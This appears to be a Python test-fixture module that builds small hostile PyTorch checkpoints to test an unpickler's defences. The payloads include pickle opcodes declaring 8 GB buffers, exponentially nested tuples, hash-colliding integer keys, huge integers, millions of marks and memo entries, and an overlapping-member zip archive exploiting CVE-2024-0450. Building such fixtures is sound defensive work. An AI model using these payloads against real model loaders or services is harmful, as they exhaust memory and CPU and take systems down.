"""Small checkpoints of PyTorch that would take gigabytes or hours in an unpickler that trusts them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

_P = b"\x80\x02"
_REBUILD = b"ctorch._utils\n_rebuild_tensor_v2\n"
_FLOATS = b"ctorch\nFloatStorage\n"


def _text(text: str) -> bytes:
    return b"X" + struct.pack("<I", len(text)) + text.encode()


_STORED = b"(" + _text("storage") + _FLOATS + _text("0") + _text("cpu") + b"K\x01tQ"


def _archive(data: bytes) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data)
        archive.writestr("archive/byteorder", b"little")
        archive.writestr("archive/data/0", b"\0\0\0\0")
    return content.getvalue()


def _doubled(times: int, by_memo: bool = False) -> bytes:
    """Opcodes of a tuple of twice the same tuple, and so on; with DUP, or where that is not known, with the memo."""
    return b"N\x85" + (b"q\x00h\x00\x86" if by_memo else b"2\x86") * times


def _tensor(size: bytes, stride: bytes = b"K\x01\x85") -> bytes:
    return _REBUILD + b"(" + _STORED + b"K\x00" + size + stride + b"\x89NtR"


def _repeated_copies(made: bytes, name: bytes, copies: int) -> bytes:
    return _archive(_P + b"(" + made + b"q\x00" + name + b"q\x01" + b"h\x01h\x00\x85R" * copies + b"t.")


def _pairs(count: int) -> bytes:
    return b"}(" + b"".join(b"J" + struct.pack("<i", i) + b"N" for i in range(count)) + b"u"


def _colliding(count: int) -> bytes:
    """Opcodes of a dictionary of integers with one hash: multiples of 2^61 - 1."""
    keys = ((2**61 - 1) * (1 + i) for i in range(count))
    return b"}(" + b"".join(b"\x8a\x0a" + key.to_bytes(10, "little") + b"N" for key in keys) + b"u"


def overlapping(members: int, kernel: bytes) -> bytes:
    """Returns a checkpoint of storages over the same bytes: each holds all headers after its own, and `kernel`.

    `zipfile` before Python 3.10.14, 3.11.8 and 3.12.2 reads such archives (CVE-2024-0450).
    """
    names = [f"archive/data/{i}".encode() for i in range(members)]
    sizes, tail = [], kernel
    for name in reversed(names):
        check = zlib.crc32(tail)
        sizes.append((len(tail), check))
        numbers = (b"PK\3\4", 20, 0, 0, 0, 0x21, check, len(tail), len(tail), len(name), 0)
        tail = struct.pack("<4s5H3I2H", *numbers) + name + tail
    sizes.reverse()
    state = b""
    for i, (size, _) in enumerate(sizes):
        count = b"J" + struct.pack("<i", size)
        stored = b"(" + _text("storage") + b"ctorch\nByteStorage\n" + _text(str(i)) + _text("cpu") + count + b"tQ"
        state += _text(f"t{i}") + _REBUILD + b"(" + stored + b"K\0" + count + b"\x85K\x01\x85\x89NtR"
    data = _P + b"}(" + state + b"u."
    entries = [(b"archive/data.pkl", len(data), zlib.crc32(data), 0)]
    head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 0x21, entries[0][2], len(data), len(data), 16, 0)
    content = head + entries[0][0] + data
    at = len(content)
    for name, (size, check) in zip(names, sizes, strict=True):
        entries.append((name, size, check, at))
        at += 30 + len(name)
    content += tail
    directory = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 0x21, check, size, size, len(name), 0, 0, 0, 0, 0, at)
        + name
        for name, size, check, at in entries
    )
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(entries), len(entries), len(directory), len(content), 0)
    return content + directory + end


HOSTILE_PICKLES: dict[str, Callable[[], bytes]] = {
    "BYTEARRAY8 of 8 GB": lambda: _archive(b"\x80\x05\x96" + struct.pack("<Q", 8 << 30) + b"."),
    "BINBYTES8 of 8 GB": lambda: _archive(b"\x80\x05\x8e" + struct.pack("<Q", 8 << 30) + b"."),
    "BINUNICODE8 of 8 GB": lambda: _archive(b"\x80\x05\x8d" + struct.pack("<Q", 8 << 30) + b"."),
    "a frame of 8 GB": lambda: _archive(b"\x80\x04\x95" + struct.pack("<Q", 8 << 30) + b"."),
    "BYTEARRAY8 of 8 GB, legacy": lambda: b"\x80\x05\x96" + struct.pack("<Q", 8 << 30) + b".",
    "BINBYTES8 of 8 GB, legacy": lambda: b"\x80\x05\x8e" + struct.pack("<Q", 8 << 30) + b".",
    "a text of 4 GB, legacy": lambda: b"\x80\x02X" + b"\xff" * 4 + b".",
    "torch.Size of a list, again and again": lambda: _repeated_copies(
        b"(" + b"N" * 200_000 + b"t", b"ctorch\nSize\n", 20_000
    ),
    "OrderedDict of a dictionary, again and again": lambda: _repeated_copies(
        _pairs(50_000), b"ccollections\nOrderedDict\n", 50_000
    ),
    "OrderedDict of pairs, again and again": lambda: _repeated_copies(
        b"](" + b"NN\x86" * 50_000 + b"e", b"ccollections\nOrderedDict\n", 50_000
    ),
    "the state of an OrderedDict, again and again": lambda: _archive(
        _P + b"(" + _pairs(50_000) + b"q\x00ccollections\nOrderedDict\n)R" + b"h\x00b" * 50_000 + b"t."
    ),
    "nested tuples as a key": lambda: _archive(_P + b"}" + _doubled(45) + b"Ns."),
    "nested tuples as a key, by the memo": lambda: _archive(_P + b"}" + _doubled(45, True) + b"Ns."),
    "nested tuples as keys of an OrderedDict": lambda: _archive(
        _P + b"ccollections\nOrderedDict\n](" + _doubled(45, True) + b"N\x86e\x85R."
    ),
    "nested tuples as a tensor's name": lambda: _archive(
        _P + b"}" + _doubled(26, True) + _tensor(b"K\x01\x85") + b"s."
    ),
    "nested tuples as a storage": lambda: _archive(
        _P + b"(" + _doubled(28, True) + _FLOATS + _text("0") + _text("cpu") + b"K\x01tQ."
    ),
    "nested tuples as a storage's name": lambda: _archive(
        _P + b"(" + _text("storage") + _FLOATS + _doubled(28, True) + _text("cpu") + b"K\x01tQ."
    ),
    "nested tuples as a size": lambda: _archive(_P + b"}" + _text("a") + _tensor(_doubled(28) + b"\x85") + b"s."),
    "nested tuples as a size, by the memo": lambda: _archive(
        _P + b"}" + _text("a") + _tensor(_doubled(28, True) + b"\x85") + b"s."
    ),
    "integers of ten million digits as a size": lambda: _archive(
        _P
        + b"}"
        + _text("a")
        + _tensor(
            b"(" + b"\x8b" + struct.pack("<i", (1 << 22) + 1) + b"\xff" * (1 << 22) + b"\x00" + b"2" * 30 + b"t",
            b"(" + b"K\x01" * 31 + b"t",
        )
        + b"s."
    ),
    "an integer of four million digits as text": lambda: _archive(_P + b"L" + b"9" * (4 << 20) + b"L\n."),
    "integers of one hash as keys": lambda: _archive(_P + _colliding(60_000) + b"."),
    "a name without an end": lambda: _archive(_P + b"c" + b"a" * (8 << 20) + b"\n"),
    "a million empty dictionaries": lambda: _archive(_P + b"(" + b"}" * 1_200_000 + b"t."),
    "a million marks": lambda: _archive(_P + b"(" * 1_200_000 + b"."),
    "a million entries of the memo": lambda: _archive(_P + b"N" + b"\x94" * 1_200_000 + b"."),
    "tuples within tuples, a million": lambda: _archive(_P + b"N" + b"\x85" * 1_200_000 + b"."),
    "members over the same bytes": lambda: overlapping(100, b"\0" * 1_000_000),
}
"""Bytes of each checkpoint."""
